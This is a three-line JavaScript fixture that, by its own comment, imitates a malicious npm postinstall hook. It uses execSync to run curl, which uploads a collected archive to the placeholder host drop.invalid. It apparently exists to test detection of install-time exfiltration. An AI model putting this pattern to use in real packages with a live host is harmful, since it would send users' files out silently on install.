// Mimics a postinstall that posts a collected archive with curl -F (defanged: .invalid host, never run).
const { execSync } = require('child_process');
execSync('curl -s -F "file=@/tmp/fixture-collect.tgz" https://drop.invalid/upload');
